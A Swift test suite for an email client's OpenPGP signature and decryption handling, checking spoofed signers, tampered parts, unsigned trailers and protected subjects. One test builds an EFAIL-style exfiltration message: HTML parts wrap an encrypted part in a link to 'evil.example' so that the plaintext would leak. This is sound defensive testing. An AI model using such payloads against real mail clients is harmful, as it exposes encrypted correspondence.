import InternetMessage
import MailModel
import MessageSeals
import TestKit
import Testing

/// Messages with seals, put together as mailers do.
enum Sealed {
    static let text = "Content-Type: text/plain; charset=utf-8\r\n\r\nThe engine is ready.\r\nAda\r\n"

    static func header(from: String = "Ada Lovelace <ada@example.org>", subject: String = "Engine") -> String {
        "From: \(from)\r\nTo: bob@example.org\r\nSubject: \(subject)\r\nMIME-Version: 1.0\r\n"
    }

    /// RFC 3156 §5.
    static func signed(
        _ part: String, _ signature: String, protocolName: String = "application/pgp-signature",
        type: String = "application/pgp-signature", behind: String = "", boundary: String = "sig"
    ) -> String {
        "Content-Type: multipart/signed; micalg=pgp-sha512; protocol=\"\(protocolName)\"; boundary=\"\(boundary)\"\r\n"
            + "\r\nThis is signed.\r\n--\(boundary)\r\n\(part)\r\n--\(boundary)\r\nContent-Type: \(type)\r\n\r\n\(signature)\r\n"
            + "\(behind)--\(boundary)--\r\n"
    }

    /// RFC 3156 §4.
    static func encrypted(_ message: String) -> String {
        "Content-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=\"enc\"\r\n\r\n"
            + "--enc\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n\r\n"
            + "--enc\r\nContent-Type: application/octet-stream; name=\"encrypted.asc\"\r\n"
            + "Content-Disposition: inline; filename=\"encrypted.asc\"\r\n\r\n\(message)\r\n--enc--\r\n"
    }

    static func mixed(_ parts: [String]) -> String {
        "Content-Type: multipart/mixed; boundary=\"mix\"\r\n\r\n" + parts.map { "--mix\r\n\($0)\r\n" }.joined()
            + "--mix--\r\n"
    }

    static func parsed(_ text: String) -> ParsedMessage { ParsedMessage(octets: Array(text.utf8)) }
}

extension ReadableMessage {
    /// The text with the seals' edges in brackets.
    var outline: [String] {
        lines.filter { !$0.text.isEmpty }.map { line in
            if case .edge = line.kind { "[\(line.text)]" } else { line.text }
        }
    }

    var sentences: [String] { seals.map(\.sentence) }
}

@Suite("OpenPGP (RFC 3156)", .enabled(if: OpenPGPKeys.isInstalled))
struct OpenPGPTests {
    private let keys = OpenPGPKeys.shared

    private func read(_ message: String, with gpg: GnuPG? = nil, terminal: String? = nil) async -> ReadableMessage {
        let opener = SealOpener(gpg: gpg ?? keys.gnupg)
        return ReadableText.read(await opener.open(Sealed.parsed(message), terminal: terminal))
    }

    private func signed(by user: String, in place: String = "home", options: [String] = []) -> String {
        let signature = keys.signature(of: Sealed.text, by: user, in: place, options: options)
        return Sealed.signed(Sealed.text, signature)
    }

    // MARK: - Signatures

    @Test("a good signature names its author")
    func good() async {
        let message = Sealed.header() + signed(by: "ada@example.org")
        let read = await read(message)
        #expect(
            read.seals == [Seal(signature: .checked(.good(Signer(name: "Ada Lovelace", address: "ada@example.org"))))])
        #expect(read.sentences == ["Signed by Ada Lovelace <ada@example.org>"])
        #expect(read.outline == ["The engine is ready.", "Ada"])
        #expect(read.attachments.isEmpty)
        // From a file with its own line ends.
        let lines = await self.read(message.replacing("\r\n", with: "\n"))
        #expect(lines.seals == read.seals)
    }

    @Test("until somebody has looked, a seal says that somebody is looking")
    func underway() {
        let message = Sealed.parsed(Sealed.header() + Sealed.signed(Sealed.text, "x"))
        #expect(ReadableText.read(message).sentences == ["Checking the signature…"])
        #expect(ReadableText.read(message).outline == ["The engine is ready.", "Ada"])
        let secret = Sealed.parsed(Sealed.header() + Sealed.encrypted("x"))
        #expect(ReadableText.read(secret).sentences == ["Decrypting…"])
        #expect(ReadableText.read(secret).outline == [])
    }

    @Test(
        "an altered octet breaks it, wherever it is",
        arguments: [("engine is", "engine ls"), ("ready.\r\nAda", "ready.\r\nOda"), ("charset=utf-8", "charset=utf-9")])
    func altered(_ place: String, _ change: String) async {
        let message = Sealed.header() + signed(by: "ada@example.org")
        let changed = message.replacing(place, with: change)
        #expect(changed != message)
        #expect(await read(changed).sentences == ["The signature does not fit the message: one of them was altered"])
    }

    @Test("a key that only says that it is the author's is not taken for it")
    func unvouched() async {
        // Another key with the same name and address, which nobody here has signed.
        let read = await read(Sealed.header() + signed(by: "ada@example.org", in: "other"))
        #expect(
            read.seals.map(\.signature) == [
                .checked(.unvouched(Signer(name: "Ada Lovelace", address: "ada@example.org")))
            ])
    }

    @Test("somebody else's signature is told from the author's")
    func otherAddress() async {
        #expect(
            await read(Sealed.header() + signed(by: "eve@example.org", in: "other")).sentences
                == ["Signed, but by another address: Eve <eve@example.org>"])
        #expect(
            await read(Sealed.header(from: "eve@example.org") + signed(by: "ada@example.org")).sentences
                == ["Signed, but by another address: Ada Lovelace <ada@example.org>"])
    }

    @Test("without the key it can't be checked")
    func unknownKey() async throws {
        let read = await read(Sealed.header() + signed(by: "stranger@example.org", in: "other"))
        let key = try #require(keys.fingerprints(of: "stranger@example.org", in: "other").first?.suffix(16))
        #expect(read.sentences == ["Signed, but it can’t be checked: key 0x\(key) is not here"])
        #expect(read.outline == ["The engine is ready.", "Ada"])
    }

    @Test("a name that looks like what gpg says is a name")
    func fakeStatus() async {
        let user = "[GNUPG:] GOODSIG 0 Ada <ada@example.org>"
        let read = await read(Sealed.header(from: "eve@example.org") + signed(by: user))
        #expect(read.sentences == ["Signed, but by another address: [GNUPG:] GOODSIG 0 Ada <ada@example.org>"])
    }

    @Test("expired and withdrawn keys are told")
    func outOfDate() async {
        let body = Sealed.header(from: "gone@example.org") + signed(by: "gone@example.org")
        #expect(await read(body).sentences == ["Signed by Gone <gone@example.org>"])

        keys.generateOld("Late <late@example.org>", validFor: "seconds=10")
        let late = signed(by: "late@example.org", options: OpenPGPKeys.inThePast)
        #expect(
            await read(Sealed.header(from: "late@example.org") + late).sentences
                == ["Signed by Late <late@example.org>, whose key has expired since"])

        keys.generate("Withdrawn <withdrawn@example.org>")
        let withdrawn = Sealed.header(from: "withdrawn@example.org") + signed(by: "withdrawn@example.org")
        keys.revoke("withdrawn@example.org")
        #expect(
            await read(withdrawn).sentences
                == ["Signed with a key that Withdrawn <withdrawn@example.org> has withdrawn"])
    }

    // MARK: - What stands around

    @Test("a list's footer is not signed, and stands apart")
    func footer() async {
        let message =
            Sealed.header()
            + Sealed.mixed([signed(by: "ada@example.org"), "Content-Type: text/plain\r\n\r\nUnsubscribe here"])
        let read = await read(message)
        #expect(read.seals.map(\.coversAll) == [false])
        #expect(
            read.outline == [
                "[Signed by Ada Lovelace <ada@example.org>]", "The engine is ready.", "Ada",
                "[the end of what is signed]", "Unsubscribe here",
            ])
    }

    @Test("what follows a signature inside its multipart is not signed either")
    func trailing() async {
        let signature = keys.signature(of: Sealed.text, by: "ada@example.org")
        let message =
            Sealed.header()
            + Sealed.signed(
                Sealed.text, signature, behind: "--sig\r\nContent-Type: text/plain\r\n\r\nSend money.\r\n")
        let read = await read(message)
        #expect(read.seals.map(\.coversAll) == [false])
        #expect(read.outline.suffix(2) == ["[the end of what is signed]", "Send money."])
    }

    @Test("a signature of another kind than announced is not looked at")
    func mismatch() async {
        let signature = keys.signature(of: Sealed.text, by: "ada@example.org")
        let announced =
            Sealed.header() + Sealed.signed(Sealed.text, signature, protocolName: "application/pkcs7-signature")
        #expect(
            await read(announced).sentences
                == ["Signed, but it can’t be checked: the signature is not what the message says it is"])
        let unknown = Sealed.header() + Sealed.signed(Sealed.text, signature, protocolName: "application/x-mine")
        #expect(
            await read(unknown).sentences
                == ["Signed, but it can’t be checked: its kind of signature is not known here"])
        let missing =
            Sealed.header()
            + "Content-Type: multipart/signed; protocol=\"application/pgp-signature\"; boundary=a\r\n\r\n--a\r\n\(Sealed.text)--a--\r\n"
        #expect(await read(missing).sentences == ["Signed, but it can’t be checked: the signature is missing"])
    }

    @Test("a signature that brings its own text signs nothing else")
    func embedded() async {
        let whole = keys.gpg(
            ["--armor", "--local-user", "ada@example.org", "--sign"], input: Array(Sealed.text.utf8))
        let message =
            Sealed.header()
            + Sealed.signed(Sealed.text.replacing("ready", with: "sold"), String(decoding: whole, as: UTF8.self))
        let tone = await read(message).seals.map(\.tone)
        #expect(tone == [.warning] || tone == [.bad])
    }

    // MARK: - Encryption

    @Test("what is encrypted to the user is shown, signed or not")
    func encrypted() async {
        let unsigned = await read(Sealed.header() + Sealed.encrypted(keys.encrypted(Sealed.text)))
        #expect(unsigned.sentences == ["Encrypted to you, unsigned"])
        #expect(unsigned.outline == ["The engine is ready.", "Ada"])
        #expect(unsigned.attachments.isEmpty)
        let signed = await read(
            Sealed.header() + Sealed.encrypted(keys.encrypted(Sealed.text, signedBy: "ada@example.org")))
        #expect(signed.sentences == ["Encrypted to you. Signed by Ada Lovelace <ada@example.org>"])
        #expect(signed.seals.map(\.tone) == [.good])
    }

    @Test("signed parts inside what is encrypted are checked, too")
    func nested() async {
        let inner = signed(by: "ada@example.org")
        let read = await read(Sealed.header() + Sealed.encrypted(keys.encrypted(inner)))
        #expect(read.sentences == ["Encrypted to you. Signed by Ada Lovelace <ada@example.org>"])
        #expect(read.outline == ["The engine is ready.", "Ada"])
        let partly = await self.read(
            Sealed.header()
                + Sealed.encrypted(
                    keys.encrypted(Sealed.mixed([inner, "Content-Type: text/plain\r\n\r\nNot signed."]))))
        #expect(partly.sentences == ["Encrypted to you, unsigned", "Signed by Ada Lovelace <ada@example.org>"])
        #expect(
            partly.outline == [
                "[Signed by Ada Lovelace <ada@example.org>]", "The engine is ready.", "Ada",
                "[the end of what is signed]", "Not signed.",
            ])
    }

    @Test("parts around an encrypted one never mix with it (EFAIL)")
    func exfiltration() async {
        let open = "Content-Type: text/html\r\n\r\n<p>Look:</p><a href=\"http://evil.example/?"
        let close = "Content-Type: text/html\r\n\r\n\">the picture</a><p>End</p>"
        let message = Sealed.header() + Sealed.mixed([open, Sealed.encrypted(keys.encrypted(Sealed.text)), close])
        let read = await read(message)
        #expect(read.seals.map(\.coversAll) == [false])
        let begin = read.outline.firstIndex(of: "[Encrypted to you, unsigned]") ?? -1
        let end = read.outline.firstIndex(of: "[the end of what is encrypted]") ?? -1
        #expect(
            begin >= 0
                && Array(read.outline[begin...end]) == [
                    "[Encrypted to you, unsigned]", "The engine is ready.", "Ada", "[the end of what is encrypted]",
                ])
        #expect(!read.links.contains { $0.contains("engine") })
    }

    @Test("attachments inside are listed, and can be had")
    func attachments() async throws {
        let inner = Sealed.mixed([
            "Content-Type: text/plain\r\n\r\nSee the plan.",
            "Content-Type: application/pdf; name=plan.pdf\r\nContent-Disposition: attachment\r\n\r\n%PDF",
        ])
        let message = Sealed.parsed(Sealed.header() + Sealed.encrypted(keys.encrypted(inner)))
        let opened = await SealOpener(gpg: keys.gnupg).open(message)
        let read = ReadableText.read(opened)
        #expect(read.attachments.map(\.number) == [":2"])
        #expect(read.attachments.map(\.fileName) == ["plan.pdf"])
        #expect(opened.decoded(number: ":2") == Array("%PDF".utf8))
        #expect(opened.decoded(number: ":9") == nil)
        let numbers = read.summary.structure?.flattened.map(\.number)
        #expect(numbers == ["", ":", ":1", ":2"])
    }

    @Test("a passphrase is never asked for unasked")
    func locked() async {
        let secret = keys.encrypted(Sealed.text, to: "bob@example.org")
        let read = await read(Sealed.header() + Sealed.encrypted(secret))
        #expect(read.seals == [Seal(encryption: .locked)])
        #expect(read.outline == [])
        #expect(read.attachments.map(\.fileName) == ["encrypted.asc"])
    }

    @Test("what is damaged, meant for others or not protected against changes stays closed")
    func closed() async {
        let toOther = keys.encrypted(Sealed.text, to: "stranger@example.org", in: "other")
        #expect(
            await read(Sealed.header() + Sealed.encrypted(toOther)).sentences
                == ["Encrypted, and can’t be decrypted: it is encrypted to a key that is not here"])
        var octets = keys.gpg(
            ["--recipient", "gone@example.org", "--encrypt"], input: Array(Sealed.text.utf8))
        octets[octets.count - 5] ^= 1
        let changed = await read(Sealed.header() + Sealed.encrypted(keys.armored(octets)))
        #expect(changed.seals.map(\.tone) == [.warning])
        #expect(changed.outline == [])
        let nothing = await read(Sealed.header() + Sealed.encrypted("no message"))
        #expect(nothing.sentences == ["Encrypted, and can’t be decrypted: it is damaged"])
        let clear = String(decoding: keys.gpg(["--armor", "--store"], input: Array(Sealed.text.utf8)), as: UTF8.self)
        let pretended = await read(Sealed.header() + Sealed.encrypted(clear))
        #expect(pretended.seals.map(\.tone) == [.warning], "what was never encrypted does not look as if it was")
        #expect(pretended.outline == [])
    }

    // MARK: - The protected subject

    @Test("the subject inside is shown, and what stood outside is told")
    func subject() async {
        let inner =
            "Content-Type: text/plain; hp=\"cipher\"\r\nSubject: The secret engine\r\nHP-Outer: Subject: [...]\r\n\r\nHello"
        let hidden = await read(Sealed.header(subject: "[...]") + Sealed.encrypted(keys.encrypted(inner)))
        #expect(hidden.summary.subject == "The secret engine")
        #expect(hidden.notices == ["the subject was encrypted, too"])
        let old = inner.replacing("hp=\"cipher\"", with: "protected-headers=\"v1\"")
        let other = await read(Sealed.header(subject: "Lunch") + Sealed.encrypted(keys.encrypted(old)))
        #expect(other.summary.subject == "The secret engine")
        #expect(other.notices == ["the subject outside is another one: “Lunch”"])
        // Without the mark it is a field like any other.
        let plain = inner.replacing("; hp=\"cipher\"", with: "")
        #expect(await read(Sealed.header() + Sealed.encrypted(keys.encrypted(plain))).summary.subject == "Engine")
    }

    @Test("a signed subject counts where the signature fits, and nowhere else")
    func signedSubject() async {
        let part = "Content-Type: text/plain; hp=\"clear\"\r\nSubject: The real one\r\n\r\nHello\r\n"
        let signature = keys.signature(of: part, by: "ada@example.org")
        let message = Sealed.header() + Sealed.signed(part, signature)
        #expect(await read(message).summary.subject == "The real one")
        #expect(await read(message.replacing("Hello", with: "Hullo")).summary.subject == "Engine")
    }

    // MARK: - The program

    @Test("without gpg a sentence says so")
    func missing() async {
        let none = GnuPG(program: "/nonexistent/gpg")
        #expect(
            await read(Sealed.header() + Sealed.signed(Sealed.text, "x"), with: none).sentences
                == ["Signed, but it can’t be checked: /nonexistent/gpg is not installed"])
        #expect(
            await read(Sealed.header() + Sealed.encrypted("x"), with: none).sentences
                == ["Encrypted, and can’t be decrypted: /nonexistent/gpg is not installed"])
    }

    @Test("a program that hangs, and all it has started, is ended")
    func hanging() async throws {
        let folder = TemporaryFolder("gpg")
        let program = folder.write("#!/bin/sh\nsleep 1000 & echo $! > \(folder.path)/child\nwait\n", to: "gpg")
        _ = ChildProcess.run(["chmod", "700", program])
        let slow = GnuPG(program: program, limit: .seconds(1))
        #expect(
            await read(Sealed.header() + Sealed.signed(Sealed.text, "x"), with: slow).sentences
                == ["Signed, but it can’t be checked: gpg has not answered for 1 s"])
        let child = String(decoding: TestFiles.octets(of: folder.path + "/child") ?? [], as: UTF8.self).trimming()
        // It may wait to be buried, which is its new parent's affair.
        try await waitUntil {
            let state = TestFiles.octets(of: "/proc/\(child)/stat").map { String(decoding: $0, as: UTF8.self) }
            return state?.contains(") Z") ?? true
        }
    }

    @Test("a program that writes without end is stopped, and one that reads nothing does no harm")
    func talkative() async {
        let folder = TemporaryFolder("gpg")
        let endless = folder.write(
            "#!/bin/sh\nexec yes '[GNUPG:] GOODSIG 0 Ada <ada@example.org>' >&3\n", to: "endless")
        let deaf = folder.write("#!/bin/sh\nexec </dev/null\nexit 0\n", to: "deaf")
        _ = ChildProcess.run(["chmod", "700", endless, deaf])
        #expect(
            await read(Sealed.header() + Sealed.signed(Sealed.text, "x"), with: GnuPG(program: endless)).sentences
                == ["Signed, but it can’t be checked: it is larger than 256 MB"])
        let large = Sealed.text + String(repeating: "0123456789abcdef\r\n", count: 100_000)
        #expect(
            await read(Sealed.header() + Sealed.signed(large, "x"), with: GnuPG(program: deaf)).sentences
                == ["Signed, but it can’t be checked: there is no signature in it"])
    }

    @Test("large texts go through whole")
    func large() async {
        let large = Sealed.text + String(repeating: "0123456789abcdef\r\n", count: 200_000)
        let signature = keys.signature(of: large, by: "ada@example.org")
        #expect(
            await read(Sealed.header() + Sealed.signed(large, signature)).sentences == [
                "Signed by Ada Lovelace <ada@example.org>"
            ])
    }

    @Test("a seal that nobody waits for any more is left")
    func cancelled() async {
        let folder = TemporaryFolder("gpg")
        let program = folder.write("#!/bin/sh\nexec sleep 1000\n", to: "gpg")
        _ = ChildProcess.run(["chmod", "700", program])
        let message = Sealed.parsed(Sealed.header() + Sealed.signed(Sealed.text, "x"))
        let task = Task { await SealOpener(gpg: GnuPG(program: program)).open(message) }
        task.cancel()
        let opened = await task.value
        #expect(
            opened.parts.isEmpty
                || ReadableText.read(opened).sentences == ["Signed, but it can’t be checked: interrupted"])
    }
}

extension String {
    fileprivate func trimming() -> String { filter { !$0.isWhitespace } }
}
